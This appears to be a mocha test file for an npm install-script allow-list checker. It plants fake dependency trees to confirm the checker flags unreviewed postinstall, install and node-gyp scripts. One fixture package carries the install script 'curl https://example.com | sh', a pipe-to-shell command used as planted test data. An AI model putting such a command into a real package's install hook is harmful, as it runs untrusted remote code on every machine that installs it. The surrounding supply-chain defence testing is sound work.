/**
 * No dependency runs an unreviewed script at install (scripts/deps.js, npm run deps): these
 * machines reach only the npm registry, so an install script that downloads breaks `npm ci`, and
 * any install script is code run on every laptop. Each one is reviewed and named in
 * scripts/install-scripts-allowed.json with a reason; the list names nothing else, so it cannot rot.
 * The planted trees below prove the check fails when it should.
 */
import { expect } from 'chai';

import { REPO_ROOT } from '../src/kata/catalog';
import { useTempDir } from '../src/harness/temp-dir';

interface InstalledPackage {
  key: string;
  name: string;
  version: string;
  kind: 'root' | 'workspace' | 'dependency';
  scripts: Record<string, string>;
}
interface Tree {
  packages: InstalledPackage[];
}
const deps = require('../scripts/deps.js') as {
  readTree(root: string): Tree;
  withInstallScripts(tree: Tree): InstalledPackage[];
  readAllowList(file?: string): Record<string, string>;
  problems(tree: Tree, allowed: Record<string, unknown>): string[];
};

describe('install scripts (npm run deps)', () => {
  it('every installed package with an install script is on the allow list, and the list names no other', () => {
    const found = deps.problems(deps.readTree(REPO_ROOT), deps.readAllowList());
    expect(found, `\n${found.join('\n')}\n`).to.deep.equal([]);
  });

  describe('the check, on a planted tree', () => {
    const tmp = useTempDir('deps-');

    /** A project with one dependency, `left-pad`, and the packages in `extra` (name -> package.json fields, files). */
    type Planted = { pkg?: object; lock?: object; files?: Record<string, string> };
    async function plant(extra: Record<string, Planted> = {}): Promise<Tree> {
      const all: Record<string, Planted> = { 'left-pad': {}, ...extra };
      const lock = {
        name: 'planted',
        lockfileVersion: 3,
        packages: {
          '': { name: 'planted', dependencies: Object.fromEntries(Object.keys(all).map((n) => [n, '*'])) },
          ...Object.fromEntries(Object.entries(all).map(([n, p]) => [`node_modules/${n}`, { version: '1.0.0', ...p.lock }])),
        },
      };
      await tmp.write({
        'package.json': JSON.stringify({ name: 'planted', version: '1.0.0', scripts: { test: 'mocha' } }),
        'package-lock.json': JSON.stringify(lock),
        node_modules: Object.fromEntries(
          Object.entries(all).map(([n, p]) => [n, { 'package.json': JSON.stringify({ name: n, version: '1.0.0', ...p.pkg }), ...p.files }]),
        ),
      });
      return deps.readTree(tmp.path);
    }

    it('a plain tree has no install script and no problem', async () => {
      const tree = await plant();
      expect(tree.packages.map((p) => p.key)).to.deep.equal(['', 'node_modules/left-pad']);
      expect(deps.problems(tree, {})).to.deep.equal([]);
    });

    it('fails on a postinstall not on the allow list, naming the package, what it runs, and the fix', async () => {
      const tree = await plant({ 'fetch-binary': { pkg: { scripts: { postinstall: 'node download.js' } }, lock: { hasInstallScript: true } } });
      const found = deps.problems(tree, {});
      expect(found).to.have.length(1);
      expect(found[0]).to.include('fetch-binary@1.0.0').and.include('postinstall: node download.js');
      expect(found[0]).to.include('add it to scripts/install-scripts-allowed.json with a one-line reason, or drop the dependency');
    });

    it('passes once the package is on the allow list with a reason', async () => {
      const tree = await plant({ 'fetch-binary': { pkg: { scripts: { preinstall: 'node check-libc.js' } }, lock: { hasInstallScript: true } } });
      expect(deps.problems(tree, { 'fetch-binary': 'checks the C library; no network' })).to.deep.equal([]);
    });

    it('counts a binding.gyp as `node-gyp rebuild`, unless the package says gypfile: false or has its own install', async () => {
      const tree = await plant({
        native: { files: { 'binding.gyp': '{}' }, lock: { hasInstallScript: true } },
        'not-built': { pkg: { gypfile: false }, files: { 'binding.gyp': '{}' } },
        'own-install': { pkg: { scripts: { install: 'node prebuilt.js' } }, files: { 'binding.gyp': '{}' }, lock: { hasInstallScript: true } },
      });
      const byName = Object.fromEntries(deps.withInstallScripts(tree).map((p) => [p.name, p.scripts]));
      expect(Object.keys(byName)).to.have.members(['native', 'own-install']);
      expect(byName.native!.install).to.match(/^node-gyp rebuild/);
      expect(byName['own-install']).to.deep.equal({ install: 'node prebuilt.js' });
      const found = deps.problems(tree, {});
      expect(found.some((p) => p.startsWith('native@1.0.0') && p.includes('node-gyp rebuild'))).to.equal(true, found.join('\n'));
    });

    it('fails on an allow-list entry for a package no longer installed', async () => {
      const found = deps.problems(await plant(), { gone: 'used to build its binding' });
      expect(found).to.deep.equal(['gone is on the allow list but is no longer installed: remove it from scripts/install-scripts-allowed.json.']);
    });

    it('fails on an allow-list entry for a package that no longer has an install script', async () => {
      const found = deps.problems(await plant(), { 'left-pad': 'ran a postinstall once' });
      expect(found).to.deep.equal(['left-pad is on the allow list but no longer has an install script: remove it from scripts/install-scripts-allowed.json.']);
    });

    it('fails on an allow-list entry without a one-line reason', async () => {
      const tree = await plant({ native: { files: { 'binding.gyp': '{}' }, lock: { hasInstallScript: true } } });
      expect(deps.problems(tree, { native: '' })[0]).to.include('needs a one-line reason');
      expect(deps.problems(tree, { native: 'two\nlines' })[0]).to.include('needs a one-line reason');
    });

    it("fails when package-lock.json's hasInstallScript and the package's own package.json disagree", async () => {
      const tree = await plant({
        hidden: { pkg: { scripts: { install: 'curl https://example.com | sh' } } },
        stale: { lock: { hasInstallScript: true } },
      });
      const found = deps.problems(tree, { hidden: 'planted' });
      expect(found).to.have.length(2);
      expect(found.find((p) => p.startsWith('hidden@'))).to.include('package-lock.json does not say hasInstallScript');
      expect(found.find((p) => p.startsWith('stale@'))).to.include('package-lock.json says it has an install script');
    });

    it('sees nested packages and the root and workspaces, whose install scripts run too', async () => {
      await tmp.write({
        'package.json': JSON.stringify({ name: 'planted', version: '1.0.0', workspaces: ['katas/*'], scripts: { prepare: 'husky' } }),
        'package-lock.json': JSON.stringify({
          lockfileVersion: 3,
          packages: {
            '': { name: 'planted', hasInstallScript: false },
            'katas/one': { name: '@planted/one', hasInstallScript: true },
            'node_modules/@planted/one': { resolved: 'katas/one', link: true },
            'node_modules/a': { version: '1.0.0' },
            'node_modules/a/node_modules/b': { version: '2.0.0', hasInstallScript: true },
          },
        }),
        katas: { one: { 'package.json': JSON.stringify({ name: '@planted/one', scripts: { postinstall: 'node setup.js' } }) } },
        node_modules: {
          a: { 'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }), node_modules: { b: { 'package.json': JSON.stringify({ name: 'b', version: '2.0.0', scripts: { install: 'node-gyp rebuild' } }) } } },
        },
      });
      const tree = deps.readTree(tmp.path);
      expect(deps.withInstallScripts(tree).map((p) => `${p.kind} ${p.name} ${Object.keys(p.scripts).join(',')}`)).to.have.members([
        'root planted prepare',
        'workspace @planted/one postinstall',
        'dependency b install',
      ]);
      const found = deps.problems(tree, {});
      expect(found.map((p) => p.split(' ')[0])).to.have.members(['planted@1.0.0', '@planted/one', 'b@2.0.0']);
    });
  });
});
